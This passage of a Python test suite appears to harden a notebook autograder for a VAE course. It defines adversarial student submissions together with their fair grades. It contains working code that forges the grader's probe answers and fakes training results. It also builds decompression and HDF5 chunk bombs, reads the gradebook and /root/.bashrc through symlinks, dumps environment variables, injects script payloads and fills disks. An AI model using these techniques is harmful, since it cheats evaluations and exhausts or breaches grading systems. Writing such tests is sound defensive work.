        lost=FORGED_VISIBLE,
    ),
    case(
        "identity_autoencoder",
        "no VAE and no training: encoder = Flatten (784-dim 'code'), decoder = Reshape back, a keras History object "
        "with a hand-made dict, and a noise manifold; all standard layers, so safe_mode loads them",
        then(
            release_only,
            set_source(
                "encoder",
                "image = keras.Input(shape=(28, 28, 1))\n"
                "encoder = keras.Model(image, [layers.Flatten()(image), layers.Flatten()(image)])\n",
            ),
            set_source(
                "decoder",
                "code = keras.Input(shape=(784,))\n"
                "decoder = keras.Model(code, layers.Reshape((28, 28, 1))(code))\n",
            ),
            set_source(
                "training",
                "x_val = None\nhistory = keras.callbacks.History()\n"
                'history.history = {"loss": [0.3] * budget.epochs, "val_loss": [0.25] * budget.epochs}\n',
            ),
            set_source("manifold", _NOISE_MANIFOLD),
        ),
        (),
        ("NotImplementedError",),
        lost={
            **FORGED_VISIBLE,
            "test_training_hidden": "an identity map is not a trained VAE: the latent code is the "
            "image itself (784 numbers, not latent_dim)",
        },
    ),
    case(
        "forged_probe_data",
        "no solution code; course.selfcheck.run_probe replaced so that the grader's probes receive fabricated data "
        "(sampler draws from NumPy, a made-up history, model facts as booleans, a noise manifold)",
        then(release_only, add_cell_after("setup", FORGE_PROBES)),
        (),
        ("NotImplementedError",),
    ),
    dataclasses.replace(
        case(
            "display_id_partial_credit",
            "part 1 with z_mean's Dense without bias (hidden: 2 of 3 points); the probes' answers get an extra output with a "
            "display_id, which a later cell updates to '3' to overwrite the partial grade",
            then(
                filled(
                    ENCODER,
                    {
                        "encoder": (
                            'layers.Dense(latent_dim, name="z_mean")',
                            'layers.Dense(latent_dim, name="z_mean", use_bias=False)',
                        )
                    },
                ),
                add_cell_after("encoder", DISPLAY_SLOTS),
                add_cell_after("test_encoder_hidden", FILL_SLOT),
            ),
            ENCODER,
            ("494,242 parameters",),
        ),
        expected={"test_encoder": 2.0, "test_encoder_hidden": 2.0},
    ),
    case(
        "interpreter_dump",
        "part 1, a transformer that records every source the kernel runs (the grader's probes included), and a cell that "
        "prints In, Out, _ih, _oh, _dh, the history database, modules, globals, the environment and every file it can "
        "list, base64/zlib/hex encoded",
        then(
            _ENCODER,
            add_cell_after("encoder", RECORD_EVERY_SOURCE),
            add_cell_after("test_encoder_hidden", DUMP_INTERPRETER),
        ),
        ENCODER,
        ("STATE-B64-ZLIB:",),
    ),
    case(
        "environment_dump",
        "part 1 and a cell that prints every environment variable",
        then(_ENCODER, add_cell_after("test_encoder_hidden", ENVIRONMENT_DUMP)),
        ENCODER,
        ("ENV PATH=",),
    ),
    with_files(
        case(
            "symlinks_beside_notebook",
            "part 1 with links beside the notebook to the gradebook (symbolic and hard), another student's notebook, the "
            "master, root's .bashrc and source/, read by a cell",
            then(_ENCODER, add_cell_after("test_encoder_hidden", READ_THROUGH_LINKS)),
            ENCODER,
            (
                "ESCAPE-read-link-gradebook.db: blocked",
                "ESCAPE-read-link-classmate.ipynb: blocked",
                "was a symbolic link",
            ),
        ),
        {
            "gradebook.db": Link("../../../gradebook.db"),
            "gradebook_copy.db": HardLink("../../../gradebook.db"),
            "classmate.ipynb": Link("../../transformer_trusted_name/vae/vae.ipynb"),
            "master.ipynb": Link("../../../source/vae/vae.ipynb"),
            "root_bashrc": Link("/root/.bashrc"),
            "source_dir": Link("../../../source"),
        },
    ),
    case(
        "html_and_javascript",
        "part 1, a Markdown cell with <script>, onerror= and javascript: links, and a cell displaying HTML with a script, "
        "a Javascript output and an SVG with onload",
        then(
            _ENCODER,
            add_markdown_after("test_encoder_hidden", HTML_MARKDOWN),
            add_cell_after("test_encoder_hidden", HTML_OUTPUTS),
        ),
        ENCODER,
        ("HTML-CASE-VISIBLE",),
    ),
    case(
        "hidden_marker_in_cell",
        "part 1 and a student cell (and a Markdown cell) containing nbgrader's hidden-test markers",
        then(
            _ENCODER,
            add_markdown_after("test_encoder_hidden", MARKER_TEXT),
            add_cell_after("test_encoder_hidden", MARKER_TEXT),
        ),
        ENCODER,
        ("MARKER-CELL-RAN",),
    ),
    case(
        "fit_in_comment_loop",
        "part 1 and an endless loop in a cell whose only `.fit(` is in a comment",
        then(_ENCODER, add_cell_after("test_encoder_hidden", FIT_IN_A_COMMENT)),
        ENCODER,
        ("limit of 60 s",),
    ),
    case(
        "repeated_crashes",
        "part 1 and eight cells at the end that each end the kernel with os._exit(3)",
        then(_ENCODER, append_cells(*[CRASH] * 8)),
        ENCODER,
        ("KernelDied", "restarted 6 times"),
    ),
    case(
        "disk_filler",
        "part 1 and a cell that writes 800 MB each into /tmp, the working folder, /dev/shm and the runtime folder",
        then(_ENCODER, add_cell_after("test_encoder_hidden", FILL_DISKS)),
        ENCODER,
        ("DISK-runtime: wrote 0 MB",),
    ),
]
"""The attacks on the judge (verdicts outside the kernel); appended to :data:`SUBMISSIONS`."""

SUBMISSIONS += JUDGE_ATTACKS
ESCAPES = (*ESCAPES, "symlinks_beside_notebook")
NO_CODE_ATTACKS = (
    "transformer_trusted_name",
    "session_send_rewrite",
    "json_and_user_expressions",
    "course_module_beside",
    "symlinked_notebook",
    "lambda_stand_ins",
    "identity_autoencoder",
    "forged_probe_data",
)
"""Cases without any solution code: they must score exactly 0."""


# --- verdicts that raise, unbounded loads, kernel-stated facts, odd formats -----------------
# Each case below is written as a student could write it from the release notebook, the student package
# and the probe code its kernel receives (the hidden probes' source, SALT included, is exec'd in the
# kernel: ``vae_grader.judge.rulings.probe_code``). ``expected`` is the FAIR grade, what the grader should give
# once it is fixed: 0 for every cell no solution code stands behind. What the grader of 5453c3c gave
# is recorded per case in GRADES_BEFORE_CONFINED_JUDGE (the evidence that these were holes).
#
# CAUTION: the cases in RESOURCE_BOMBS make a grader that loads probe answers in its own process use
# tens of GB of memory (hdf5_chunk_bomb: ~30 GB, vocabulary_asset_bomb: ~17 GB), several GB of disk or
# minutes of CPU. Grade them only against a grader that bounds its verdicts (or inside a memory cgroup).

FORGE_LIB = '''
import numpy as np
import course
import course.selfcheck as _selfcheck

_real_run_probe = _selfcheck.run_probe
_rng = np.random.default_rng(20)


def _noise(mean, variance, rows):
    return np.asarray(mean, "float64") + np.sqrt(np.asarray(variance, "float64")) * _rng.normal(size=(rows, 2))


def _loss(x, decoded, z_mean, z_log_var, eps=1e-7):
    """The VAE loss as part 4's text states it, in NumPy (no layer)."""
    x = x.reshape(len(x), -1).astype("float64")
    p = np.clip(decoded.reshape(len(decoded), -1).astype("float64"), eps, 1 - eps)
    reconstruction = float(np.mean(-(x * np.log(p) + (1 - x) * np.log(1 - p))))
    per_dim = -(1 + z_log_var - z_mean**2 - np.exp(z_log_var)).astype("float64")
    return reconstruction + 5e-4 * float(np.mean(per_dim.mean(axis=-1)))


def _sampling(g):  # part 2 self-check: its inputs are fixed (z_mean 3, variance 4)
    fresh = _noise(3.0, 4.0, 5)
    return {"errors.json": {}, "z": _noise(3.0, 4.0, 2000), "z_tiny": np.full((4, 2), 3.0),
            "z_again": _noise(3.0, 4.0, 2000), "fresh_a": fresh, "fresh_b": fresh.copy(),
            "symbolic_shape.json": [None, 2]}


def _sampling_hidden(g):  # part 2 hidden: the salted inputs, read from the probe's own globals
    given = g["sampler_inputs"](g["SALT"])
    rows = g["N_SEEDED"]
    seeded = _noise(given["mean"], given["variance"], rows)
    z = _noise(given["grad_mean"], np.exp(given["grad_log_var"]), rows)
    rebuilt = _noise(given["grad_mean"], np.exp(given["grad_log_var"]), rows).tolist()
    return {"errors.json": {}, "draws": _noise(given["mean"], given["variance"], g["N_DRAWS"]),
            "seeded.first": seeded, "seeded.second": seeded.copy(),
            "grad.mean": np.ones((rows, 2)), "grad.z": z, "grad.log_var": 0.5 * (z - given["grad_mean"]),
            "restored.json": {"same_class": True, "seed": 9, "original": rebuilt, "restored": rebuilt}}


def _loss_layer(g):  # part 4 self-check: fixed inputs
    half, quarter = np.full((2, 28, 28, 1), 0.5, "float32"), np.full((2, 28, 28, 1), 0.25, "float32")
    zeros = np.zeros((2, 2))
    mean, log_var = np.array(_selfcheck.part4_loss_layer.LOSS_CODE_MEAN), np.array(_selfcheck.part4_loss_layer.LOSS_CODE_LOG_VAR)
    return {"errors.json": {}, "zero_code.output": half, "code.output": half,
            "zero_code.losses": np.array([_loss(half, quarter, zeros, zeros)]),
            "code.losses": np.array([_loss(half, quarter, mean, log_var)])}


def _loss_layer_hidden(g):  # part 4 hidden: the salted batches, rebuilt from the probe's own globals
    out = {"errors.json": {}}
    for i, (x, decoded, z_mean, z_log_var) in enumerate(g["loss_batches"](g["SALT"])):
        out[f"batch{i}.output"] = x
        out[f"batch{i}.losses"] = np.array([_loss(x, decoded, z_mean, z_log_var)])
    return out


def _tensor(name, index):
    return {"class_name": "__keras_tensor__", "config": {"shape": [None], "dtype": "float32",
            "keras_history": [name, 0, index]}}


GRAPH = {  # a functional graph written by hand: no model, no layer, no build_vae
    "name": "vae", "trainable": True,
    "layers": [
        {"class_name": "InputLayer", "name": "image", "config": {"batch_shape": [None, 28, 28, 1]}, "inbound_nodes": []},
        {"class_name": "Functional", "name": "enc", "inbound_nodes": [{"args": [_tensor("image", 0)], "kwargs": {}}]},
        {"class_name": "Sampling", "name": "z", "inbound_nodes": [{"args": [[_tensor("enc", 0), _tensor("enc", 1)]], "kwargs": {}}]},
        {"class_name": "Functional", "name": "dec", "inbound_nodes": [{"args": [_tensor("z", 0)], "kwargs": {}}]},
        {"class_name": "CustomVariationalLayer", "name": "loss", "inbound_nodes": [{"args": [[
            _tensor("image", 0), _tensor("dec", 0), _tensor("enc", 0), _tensor("enc", 1)]], "kwargs": {}}]},
    ],
    "input_layers": [["image", 0, 0]],
    "output_layers": [["loss", 0, 0]],
}


def _vae_model(g):  # part 5 self-check: every fact stated
    return {"errors.json": {}, "type": "Functional", "is_model": True, "config.json": GRAPH,
            "given.json": ["enc", "dec"], "input_shape.json": [None, 28, 28, 1], "compiled": True, "loss": 0.69}


def _vae_model_hidden(g):  # part 5 hidden: every fact stated
    return {"errors.json": {}, "config.json": GRAPH, "given.json": ["enc", "dec"],
            "optimizer.json": {"learning_rate": 0.003}, "fit_loss": 0.69, "decoder_changed": True}


def _data(g):  # part 6 self-check: shapes, dtype and range stated, no array
    return {"errors.json": {}, "x_train.shape.json": [course.training_budget().train_images, 28, 28, 1],
            "x_test.shape.json": [10000, 28, 28, 1], "x_train.dtype": "float32", "x_train.range": np.array([0.0, 1.0])}


def _data_hidden(g):  # part 6 hidden: the probe's fixed input scaled, and MNIST's first rows, no part-6 code
    (train, _), (test, _) = course.load_mnist()
    return {"errors.json": {}, "preprocessed": (g["preprocess_input"]() / 255.0).astype("float32")[..., None],
            "x_train.head": (train[:100] / 255.0)[..., None], "x_test.head": (test[:100] / 255.0)[..., None]}


def _layout(n):
    """What build_manifold(ProbeDecoder(), n) returns when right: the grid is fixed, so this is a constant."""
    from scipy.stats import norm
    grid = norm.ppf(np.linspace(0.05, 0.95, n))
    image = np.zeros((28 * n, 28 * n))
    for i in range(n):
        for j in range(n):
            image[28 * i, 28 * j], image[28 * i, 28 * j + 1] = grid[j], grid[i]
    return image


def _manifold(g):  # part 8 self-check: a constant layout and noise
    return {"errors.json": {}, "type": "ndarray", "probe_image": _layout(15).astype("float32"),
            "manifold": np.random.default_rng(0).uniform(0, 1, (420, 420)).astype("float32")}


def _manifold_hidden(g):  # part 8 hidden: a constant layout, a stated call list, a hand-made smooth picture
    smooth = np.repeat(np.repeat(np.tile(np.arange(15) / 14.0, (15, 1)), 28, axis=0), 28, axis=1)
    return {"errors.json": {}, "probe_image": _layout(5), "probe_calls.json": [25],
            "smooth_image": smooth.astype("float32")}


def _batched_only(g):  # part 8 hidden: any 140x140 array beside the call list the verdict trusts
    return {"errors.json": {}, "probe_image": np.zeros((140, 140)), "probe_calls.json": [25]}


FORGERIES = {
    "probe_sampling": _sampling, "probe_sampling_hidden": _sampling_hidden,
    "probe_loss_layer": _loss_layer, "probe_loss_layer_hidden": _loss_layer_hidden,
    "probe_vae_model": _vae_model, "probe_vae_model_hidden": _vae_model_hidden,
    "probe_data": _data, "probe_data_hidden": _data_hidden,
    "probe_manifold": _manifold, "probe_manifold_hidden": _manifold_hidden,
}


def install(table):
    """Answer the probes named in ``table`` (probe function name -> forger) with the forger's data."""
    def run_probe(probe, namespace):
        function = getattr(probe, "probe", None)
        forge = table.get(getattr(function, "__name__", ""))
        if forge is None:
            return _real_run_probe(probe, namespace)
        return forge(getattr(function, "__globals__", {}))

    _selfcheck.run_probe = run_probe
    print("probes answered by the notebook:", sorted(table))
'''


def forge_cell(*probes: str, extra: str = "", table: str = "") -> str:
    """A student cell: FORGE_LIB, ``extra`` code, then the named forgers (or ``table``) installed."""
    chosen = table or "{" + ", ".join(f"{p!r}: FORGERIES[{p!r}]" for p in probes) + "}"
    return FORGE_LIB + extra + f"\ninstall({chosen})\n"


FORGED_NOTHING = "no solution code behind it: the probe's answer was made up by the notebook"

# --- model files built in the kernel and handed over as a probe's answer ---------------------------------

BOMB_LIB = '''
import io, json, os, tempfile, zipfile
import keras
from keras import layers


def _model_bytes(model):
    """A model as the bytes of a .keras file, saved by Keras itself (no helper of the course package)."""
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "model.keras")
        keras.saving.save_model(model, path)
        with open(path, "rb") as handle:
            return handle.read()


def _small_model_bytes():
    x = keras.Input((2,))
    return _model_bytes(keras.Model(x, layers.Dense(1)(x)))


def _members(blob):
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        return {info.filename: archive.read(info.filename) for info in archive.infolist()}


def _zip(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _walk(node, fn):
    if isinstance(node, dict):
        fn(node)
        for value in node.values():
            _walk(value, fn)
    elif isinstance(node, list):
        for value in node:
            _walk(value, fn)


def chunk_bomb(chunks):
    """A legal little model whose weights file declares one dataset of ``chunks`` one-value chunks, none
    stored: 4 bytes a value, so far below Keras's 4 GiB shape-bomb floor; HDF5 spends ~3.7 kB a chunk reading it."""
    import h5py
    members = _members(_small_model_bytes())
    handle = io.BytesIO(members["model.weights.h5"])
    with h5py.File(handle, "r+") as h5:
        found = []
        h5.visititems(lambda name, obj: found.append(name) if isinstance(obj, h5py.Dataset) else None)
        del h5[found[0]]
        h5.create_dataset(found[0], shape=(chunks,), dtype="float32", chunks=(1,), fillvalue=0.5)
    members["model.weights.h5"] = handle.getvalue()
    return _zip(members)


def huge_config(inputs, units):
    """The little model's config edited to a Dense layer of inputs x units weights (built before any check)."""
    members = _members(_small_model_bytes())
    config = json.loads(members["config.json"])

    def grow(node):
        if node.get("units") == 1:
            node["units"] = units
        for key in ("batch_shape", "input_shape", "shape"):
            if node.get(key) in ([None, 2], (None, 2)):
                node[key] = [None, inputs]

    _walk(config, grow)
    members["config.json"] = json.dumps(config).encode()
    return _zip(members)


def deflated_config(gib):
    """config.json followed by ``gib`` GiB of spaces (still valid JSON), DEFLATE'd inside the .keras zip."""
    members = _members(_small_model_bytes())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            if name != "config.json":
                archive.writestr(name, data)
                continue
            with archive.open(name, "w", force_zip64=True) as handle:
                handle.write(data)
                pad = b" " * 2**24
                for _ in range(int(gib * 2**30) // len(pad)):
                    handle.write(pad)
    return out.getvalue()


def vocabulary_asset(mib):
    """A StringLookup model whose vocabulary is an asset of ``mib`` MiB of two-letter lines (not config)."""
    text = keras.Input((1,), dtype="string")
    blob = _model_bytes(keras.Model(text, layers.StringLookup(vocabulary=["ab", "cd"])(text)))
    members = _members(blob)
    config = json.loads(members["config.json"])

    def forget(node):
        if "vocabulary" in node:
            node["vocabulary"] = None

    _walk(config, forget)
    members["config.json"] = json.dumps(config).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        with archive.open("assets/layers/string_lookup/vocabulary.txt", "w") as handle:
            lines = b"ab\\n" * (2**20 // 3)
            for _ in range(mib):
                handle.write(lines)
    return out.getvalue()


def junk_assets(members_count, mib):
    """The little model plus ``members_count`` members of ``mib`` MiB of zeros: Keras extracts every member of
    an archive with more than 3 to a temporary folder, each under its 256 MiB floor whatever the ratio."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in _members(_small_model_bytes()).items():
            archive.writestr(name, data)
        zeros = bytes(2**20)
        for index in range(members_count):
            with archive.open(f"assets/junk{index}.bin", "w") as handle:
                for _ in range(mib):
                    handle.write(zeros)
    return out.getvalue()


def slow_decoder(upsample, kernel):
    """A legal decoder (code 2 -> 28x28x1, ~10k parameters, under every size limit) whose one convolution
    with a kernel x kernel window on an upsampled map takes ~1.5 s an image on this machine."""
    code = keras.Input((2,))
    x = layers.Reshape((28, 28, 1))(layers.Dense(784)(code))
    x = layers.UpSampling2D(upsample)(x)
    x = layers.Conv2D(1, kernel, padding="same", use_bias=False)(x)
    x = layers.AveragePooling2D(upsample)(x)
    return keras.Model(code, layers.Activation("sigmoid")(x))


def plain_encoder():
    image = keras.Input((28, 28, 1))
    flat = layers.Flatten()(image)
    return keras.Model(image, [layers.Dense(2)(flat), layers.Dense(2)(flat)])


def trained_models_answer(encoder_bytes, decoder_bytes):
    """What probe_training_hidden hands back, with these bytes as the two models."""
    return {"errors.json": {}, "encoder.type": "Functional", "encoder.is_model": True, "encoder.keras": encoder_bytes,
            "decoder.type": "Functional", "decoder.is_model": True, "decoder.keras": decoder_bytes}
'''


def bomb_cell(encoder_expression: str, decoder_expression: str = "_small_model_bytes()") -> str:
    """A student cell that builds the two model files once and answers part 7's hidden probe with them."""
    return (
        FORGE_LIB
        + BOMB_LIB
        + f"\nBOMB = trained_models_answer({encoder_expression}, {decoder_expression})\n"
        + 'print("answer built:", len(BOMB["encoder.keras"]), "+", len(BOMB["decoder.keras"]), "bytes")\n'
        + 'install({"probe_training_hidden": lambda g: BOMB})\n'
    )


RAISE_IN_VERDICT = """
def _odd_missing(value):
    return lambda g: {"errors.json": {}, "missing.json": value}
"""

PROBE_OUTPUT_FLOOD = """
import sys, time

def _flood(g):
    # While the probe runs, its outputs are not capped (OutputCap lets a probe's output through):
    # print 1 MB lines for 45 s of the 60 s the probe may take, then hand back no answer. Each line is
    # flushed, so the kernel sends at the pace the grader reads and never holds more than a line.
    line = "x" * (2**20 - 1) + "\\n"
    end = time.monotonic() + 45
    while time.monotonic() < end:
        sys.stdout.write(line)
        sys.stdout.flush()
    return {"errors.json": {}}
"""

HUGE_MESSAGES = """
_BIG = np.asarray(b"x" * 10_000_000)  # 10 MB, 1 byte a character ('S' dtype): str() of it is 10M characters

def _echo(key):
    # The verdicts put this stated "type" into their failure message unshortened ("... not <type>").
    return lambda g: {"errors.json": {}, key: _BIG}

TABLE = {"probe_encoder": _echo("encoder_2.type"), "probe_encoder_hidden": _echo("encoder.type"),
         "probe_vae_model": _echo("type"), "probe_manifold": _echo("type")}
"""

PCA_TRAINING = """x_val = x_test[: budget.val_images]
# No training: a 2-component PCA (NumPy SVD) written into the Dense weights of standard-layer models,
# the decoder a least-squares fit in logit space, and a History object with a hand-made dict.
flat = x_train.reshape(len(x_train), -1).astype("float64")
mean = flat.mean(axis=0)
_, _, vt = np.linalg.svd(flat - mean, full_matrices=False)
codes = (flat - mean) @ vt[:2].T
scale = codes.std(axis=0)
clipped = np.clip(flat, 0.02, 0.98)
design = np.hstack([codes / scale, np.ones((len(flat), 1))])
coef, *_ = np.linalg.lstsq(design, np.log(clipped / (1 - clipped)), rcond=None)
image = keras.Input(shape=(28, 28, 1))
flat_image = layers.Flatten()(image)
to_mean, to_log_var = layers.Dense(2), layers.Dense(2)
encoder = keras.Model(image, [to_mean(flat_image), to_log_var(flat_image)])
to_mean.set_weights([(vt[:2].T / scale).astype("float32"), (-(mean @ vt[:2].T) / scale).astype("float32")])
to_log_var.set_weights([np.zeros((784, 2), "float32"), np.zeros(2, "float32")])
code = keras.Input(shape=(2,))
to_pixels = layers.Dense(784, activation="sigmoid")
decoder = keras.Model(code, layers.Reshape((28, 28, 1))(to_pixels(code)))
to_pixels.set_weights([coef[:2].astype("float32"), coef[2].astype("float32")])
history = keras.callbacks.History()
history.history = {"loss": [0.25] * budget.epochs, "val_loss": [0.25] * budget.epochs}
"""

MEMORISED_TRAINING = """x_val = x_test[: budget.val_images]
# No training: the grader's quality images are the first MNIST test images, a fixed set. The encoder
# projects onto two PCA directions; the decoder is a nearest-neighbour lookup of the first 500 test
# images (a softmax over 500 Dense logits, then a Dense layer whose weights ARE those images).
memory = x_test[:500].reshape(500, -1).astype("float64")
flat = x_train.reshape(len(x_train), -1).astype("float64")
mean = flat.mean(axis=0)
_, _, vt = np.linalg.svd(flat - mean, full_matrices=False)
scale = ((flat - mean) @ vt[:2].T).std(axis=0)
centres = ((memory - mean) @ vt[:2].T) / scale
sharpness = 1e4
image = keras.Input(shape=(28, 28, 1))
flat_image = layers.Flatten()(image)
to_mean, to_log_var = layers.Dense(2), layers.Dense(2)
encoder = keras.Model(image, [to_mean(flat_image), to_log_var(flat_image)])
to_mean.set_weights([(vt[:2].T / scale).astype("float32"), (-(mean @ vt[:2].T) / scale).astype("float32")])
to_log_var.set_weights([np.zeros((784, 2), "float32"), np.zeros(2, "float32")])
code = keras.Input(shape=(2,))
nearest = layers.Dense(500, activation="softmax")
lookup = layers.Dense(784, use_bias=False)
decoder = keras.Model(code, layers.Reshape((28, 28, 1))(lookup(nearest(code))))
nearest.set_weights([(2 * sharpness * centres.T).astype("float32"), (-sharpness * (centres**2).sum(axis=1)).astype("float32")])
lookup.set_weights([memory.astype("float32")])
history = keras.callbacks.History()
history.history = {"loss": [0.25] * budget.epochs, "val_loss": [0.25] * budget.epochs}
"""


def huge_literal(elements: int = 20_000_000) -> str:
    """40 MB of valid Python: ast.parse needs ~1 kB an element (4 MB of source: 1.9 GB and 7 s measured), in the
    grader process, for the static scan (vae_grader.preprocessors.scan) and again for calls_fit (vae_grader.kernel.time_limits).
    Built when the case is built (not at import: it is 40 MB)."""
    return "numbers = [" + "0," * elements + "]\n"


def add_generated_cell_after(
    grade_id: str, make_source: Callable[[], str]
) -> Callable[[NotebookNode], None]:
    """:func:`add_cell_after`, with the source made only when the notebook is built."""

    def step(nb: NotebookNode) -> None:
        add_cell_after(grade_id, make_source())(nb)

    return step


DEEP_EXPRESSION = "total = " + "+".join(["1"] * 200_000) + "\n"
"""Valid Python (a student might generate such a line): ast.parse raises RecursionError on it, which the
static scan (vae_grader.preprocessors.scan) and calls_fit (vae_grader.kernel.time_limits) do not catch (only SyntaxError)."""


def nbformat_v3(base: Builder) -> Builder:
    """``base``'s notebook written in nbformat 3 (worksheets), the format of IPython 1-2 and of old exports."""

    def build(master: NotebookNode, release: NotebookNode) -> bytes:
        import warnings

        nb = base(master, release)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            return nbformat.writes(nbformat.convert(copy.deepcopy(nb), 3)).encode()

    return build


def nested_json(depth: int) -> str:
    return '{"a": ' * depth + "0" + "}" * depth


def with_raw_json(
    base: Builder, edit: Callable[[dict], None], placeholder: str, text: str
) -> Builder:
    """``base``'s notebook as JSON text, ``edit`` applied to the parsed dict, then the string value
    ``placeholder`` replaced by ``text`` verbatim (for JSON no writer would produce)."""

    def build(master: NotebookNode, release: NotebookNode) -> bytes:
        import json
        import warnings

        nb = base(master, release)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            data = json.loads(nbformat.writes(nb))
        edit(data)
        return json.dumps(data, indent=1).replace(f'"{placeholder}"', text, 1).encode()

    return build


def _deep_top_metadata(data: dict) -> None:
    data["metadata"]["deep"] = "@@DEEP@@"


def _many_empty_cells(data: dict) -> None:
    data["cells"].append("@@CELLS@@")


MANY_CELLS = 2_300_000
"""Empty raw cells appended to the FAST notebook: 21 bytes each, so the file stays under intake's 50 MB."""

FAST_LOST_7_8 = {
    "test_training": NOT_ATTEMPTED,
    "test_training_hidden": NOT_ATTEMPTED,
}
RESOURCE_BOMBS = (
    "hdf5_chunk_bomb",
    "huge_config_params",
    "deflate_config_bomb",
    "slow_verdict_model",
    "probe_output_flood",
    "vocabulary_asset_bomb",
    "assets_extract_disk",
    "many_cells_notebook",
    "huge_literal_cell",
    "huge_failure_messages",
)
"""Cases whose harm is the grader's memory, disk or time rather than (only) its points: see the caution above."""

REFUSED_MODEL = "checking your answer needed more than"
"""What the student should read where their answer was stopped (the confined verdict process's wording)."""

VERDICT_ATTACKS: list[Submission] = [
    # 1. a verdict that raises outside run_checks: nbgrader read the judged cell's empty outputs as full marks
    case(
        "verdict_raises",
        "the FAST parts; the probes of part 7's and part 8's hidden tests (parts never done) answered with "
        "missing.json holding a number and a list of numbers instead of a list of names",
        then(
            _FAST,
            add_cell_after(
                "setup",
                forge_cell(
                    extra=RAISE_IN_VERDICT,
                    table="{'probe_training_hidden': _odd_missing(1), 'probe_manifold_hidden': _odd_missing([0, 1])}",
                ),
            ),
        ),
        FAST,
        ("NotImplementedError",),
        lost={
            "test_training_hidden": FORGED_NOTHING + " (missing.json = 1)",
            "test_manifold_hidden": FORGED_NOTHING + " (missing.json = [0, 1])",
        },
    ),
    # 2-5. unbounded loads and runs, each on part 7's hidden probe of a FAST notebook
    case(
        "hdf5_chunk_bomb",
        "the FAST parts; part 7's hidden probe answered with a 1.5 kB .keras whose model.weights.h5 declares "
        "8,000,000 one-value HDF5 chunks (32 MB declared, under Keras's 4 GiB floor; ~3.7 kB of grader memory a chunk)",
        then(_FAST, add_cell_after("setup", bomb_cell("chunk_bomb(8_000_000)"))),
        FAST,
        (REFUSED_MODEL,),
        lost={
            "test_training_hidden": "a model file built to exhaust the grader's memory earns nothing"
        },
    ),
    case(
        "huge_config_params",
        "the FAST parts; part 7's hidden probe answered with a 1.5 kB .keras whose config declares a Dense layer of "
        "10,000 x 20,000 = 200 M parameters (Keras builds and initialises it before MAX_MODEL_PARAMETERS is checked)",
        then(_FAST, add_cell_after("setup", bomb_cell("huge_config(10_000, 20_000)"))),
        FAST,
        (REFUSED_MODEL,),
        lost={"test_training_hidden": "a 200 M-parameter model is refused, not built"},
    ),
    case(
        "deflate_config_bomb",
        "the FAST parts; part 7's hidden probe answered with a 1.6 MB .keras whose config.json is DEFLATE'd and "
        "inflates to 1.5 GiB (MAX_UNPACKED_BYTES covers only the outer npz; Keras's own floor is 4 GiB)",
        then(_FAST, add_cell_after("setup", bomb_cell("deflated_config(1.5)"))),
        FAST,
        (REFUSED_MODEL,),
        lost={"test_training_hidden": "a model file that inflates to 1.5 GiB earns nothing"},
    ),
    case(
        "slow_verdict_model",
        "the FAST parts; part 7's hidden probe answered with a legal decoder (10 k parameters, activations under "
        "the limit) whose 101x101 convolution on a 10x upsampled map takes ~1.5 s an image: the verdict "
        "decodes 200 images (~5 min of the grader's CPU, no limit on a verdict's time)",
        then(
            _FAST,
            add_cell_after(
                "setup",
                bomb_cell(
                    "_model_bytes(plain_encoder())",
                    "_model_bytes(slow_decoder(10, 101))",
                ),
            ),
        ),
        FAST,
        (REFUSED_MODEL,),
        lost={
            "test_training_hidden": "untrained models (and a verdict that must be stopped) earn nothing"
        },
    ),
    # 6-8. verdicts that trust facts the kernel states
    case(
        "forged_part5_graph",
        "no solution code; part 5's probes answered with a hand-written functional graph (config.json), the "
        "encoder/decoder names it uses (given.json), optimizer.json, fit_loss, decoder_changed, is_model, compiled",
        then(
            release_only,
            add_cell_after("setup", forge_cell("probe_vae_model", "probe_vae_model_hidden")),
        ),
        (),
        ("NotImplementedError",),
        lost={"test_vae_model": FORGED_NOTHING, "test_vae_model_hidden": FORGED_NOTHING},
    ),
    case(
        "stated_part6",
        "no solution code; part 6's self-check answered with the shapes, dtype and range it checks, and no array",
        then(release_only, add_cell_after("setup", forge_cell("probe_data"))),
        (),
        ("NotImplementedError",),
        lost={"test_data": FORGED_NOTHING},
    ),
    case(
        "stated_part8_batched",
        "no solution code; part 8's hidden probe answered with a 140x140 array of zeros and the call list [25]",
        then(
            release_only,
            add_cell_after("setup", forge_cell(table="{'probe_manifold_hidden': _batched_only}")),
        ),
        (),
        ("NotImplementedError",),
        lost={"test_manifold_hidden": FORGED_NOTHING},
    ),
    case(
        "issue_forgeries_combined",
        "no solution code; the forgeries the issue names, in one notebook: a verdict made to raise (part 7's and "
        "part 8's hidden probes answer missing.json = 1 / [0, 1]), a hand-written part-5 graph with stated facts, "
        "part 6's facts stated, part 8's call list beside noise",
        then(
            release_only,
            add_cell_after(
                "setup",
                forge_cell(
                    extra=RAISE_IN_VERDICT,
                    table="{'probe_training_hidden': _odd_missing(1), 'probe_manifold': _odd_missing([0, 1]), "
                    "'probe_vae_model': FORGERIES['probe_vae_model'], "
                    "'probe_vae_model_hidden': FORGERIES['probe_vae_model_hidden'], "
                    "'probe_data': FORGERIES['probe_data'], 'probe_manifold_hidden': _batched_only}",
                ),
            ),
        ),
        (),
        ("NotImplementedError",),
        lost={
            cell: FORGED_NOTHING
            for part in ("vae_model", "data", "training", "manifold")
            for cell in test_cells(part)
        },
    ),
    # 9-10. formats
    case(
        "nbformat_v3",
        "the FAST parts, saved in nbformat 3 (worksheets; what IPython 2 and old exports write)",
        nbformat_v3(_FAST),
        FAST,
        ("NotImplementedError",),
    ),
    case(
        "deep_metadata",
        "the FAST parts with notebook metadata nested 200,000 levels deep: valid JSON that no JSON reader of the "
        "toolchain (nbformat, Jupyter, json) can parse",
